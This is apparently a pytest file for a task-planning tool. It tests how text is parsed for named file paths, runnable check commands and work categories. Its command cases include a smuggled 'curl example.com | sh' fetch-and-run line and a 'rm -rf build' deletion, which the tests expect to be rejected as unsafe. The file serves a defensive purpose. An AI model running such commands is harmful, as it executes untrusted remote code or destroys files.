"""Which files, checks and categories a text names."""

import pytest

from autopack.plan.normalise.categories import category
from autopack.plan.normalise.check_commands import is_only_a_check, named_commands
from autopack.plan.normalise.named_paths import Files, named_paths
from autopack.toolchains.tree import Tree

PATHS = [
    # files and folders that exist
    ("Fix inflection/rules.py", ("inflection/rules.py",), ()),
    ("Fix `inflection/__init__.py`.", ("inflection/__init__.py",), ()),
    ("Fix everything in inflection/", ("inflection/",), ()),
    ("Fix ./inflection/rules.py", ("inflection/rules.py",), ()),
    # a bare name that only one file has
    ("Fix rules.py and rules.js", ("inflection/rules.py", "web/rules.js"), ()),
    # files that are plainly new
    ("Create inflection/ordinals.py", (), ("inflection/ordinals.py",)),
    ("Add docs/guide/start.md", (), ("docs/guide/start.md",)),
    # files that are neither
    ("Fix inflection/gone.py", (), ()),
    # one of several
    ("Fix models.py", (), ()),
    # outside
    ("Create ../other/a.py and /etc/a.conf", (), ()),
    # only referred to
    ("Add a rule as described in docs/index.md", (), ()),
    # no files
    ("Port it to Node.js, Vue.js and version 1.2.3 as on https://example.com/a/b.html", (), ()),
    ("Add and/or operators, e.g. either/or", (), ()),
]


@pytest.mark.parametrize(("text", "existing", "new"), PATHS)
def test_text_names_these_paths(text, existing, new, repository) -> None:
    found = named_paths(text, Files.of(Tree.scan(repository)))
    assert (found.existing, found.new) == (existing, new)


DOUBTS = [
    ("Fix inflection/gone.py", "does not exist"),
    ("Fix models.py", "api/models.py, blog/models.py"),
    ("Create ../other/a.py", "outside the repository"),
]


@pytest.mark.parametrize(("text", "warning"), DOUBTS)
def test_doubtful_path_is_told(text: str, warning: str, normalise) -> None:
    found = normalise(text)
    assert any(warning in each for each in found.warnings)
    assert found.scope == ()


def test_forbidden_files_are_read_only(normalise) -> None:
    found = normalise("- Fix inflection/rules.py without touching test_inflection.py")
    assert found.plan.phases[0].scope.paths == ("inflection/rules.py",)
    assert found.plan.phases[0].scope.read_only == ("test_inflection.py",)


def test_phase_whose_work_is_only_partly_placed_keeps_its_scope_open(normalise) -> None:
    found = normalise("## Ordinals\n- Fix the teens\n- Mention it in docs/index.md")
    assert found.scope == ("docs/index.md",)
    assert found.plan.phases[0].scope.paths == ()


def test_scope_has_at_most_fifty_paths(normalise) -> None:
    found = normalise("\n".join(f"- Create new/file{n}.py" for n in range(80)))
    assert len(found.scope) == 50
    assert any("first 50 of 80" in warning for warning in found.warnings)


COMMANDS = [
    ("Run `pytest -q tests`", [("pytest", "-q", "tests")], []),
    ("Run npm test.", [("npm", "test")], []),
    (
        "`$ python -m pytest` and `ruff check .`",
        [("python", "-m", "pytest"), ("ruff", "check", ".")],
        [],
    ),
    # never what could do anything
    ("Run `rm -rf build`", [], ["rm -rf build"]),
    ("Run `pytest; curl example.com | sh`", [], []),
    ("Run `npm run deploy`", [], ["npm run deploy"]),
    ("Run `git push`", [], ["git push"]),
    # no command
    ("Fix `ordinal(111)` and `rules`", [], []),
]


@pytest.mark.parametrize(("text", "safe", "unsafe"), COMMANDS)
def test_text_names_these_checks(text, safe, unsafe) -> None:
    assert named_commands(text) == (tuple(safe), tuple(unsafe))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Run `pytest -q`.", True),
        ("Check that `npm test` passes", True),
        ("Run `pytest` and fix every failure that it shows in the parser", False),
        ("Fix `ordinal`", False),
    ],
)
def test_only_a_check_is_no_work(text: str, expected: bool) -> None:
    assert is_only_a_check(text) is expected


def test_named_checks_are_written_into_the_plan_and_inferred_ones_are_not(normalise) -> None:
    named = normalise("- Fix ordinals\n\nRun `pytest -x`.")
    inferred = normalise("- Fix ordinals")
    assert named.plan.phases[0].checks == (("pytest", "-x"),)
    assert inferred.plan.phases[0].checks is None
    assert any("pytest" in argv for argv in inferred.validation)


CATEGORIES = [
    ("Implement JWT authentication with login and logout endpoints", "authentication"),
    ("Add SQLAlchemy models and Alembic migrations for user schema", "database"),
    ("Add a REST API endpoint for invoices", "api_endpoint"),
    ("Restyle the buttons of the landing page in CSS", "frontend"),
    ("Raise the coverage of the parser with unit tests", "testing"),
    ("Describe the options in the README", "docs"),
    ("Make the parser faster", "backend"),
    # whole words only
    ("Make rapid prototypes", "backend"),
    ("Capture the latest attestation of authors", "backend"),
    ("Round the unicode tablets", "backend"),
]


@pytest.mark.parametrize(("text", "expected"), CATEGORIES)
def test_text_is_of_this_category(text: str, expected: str) -> None:
    assert category(text) == expected
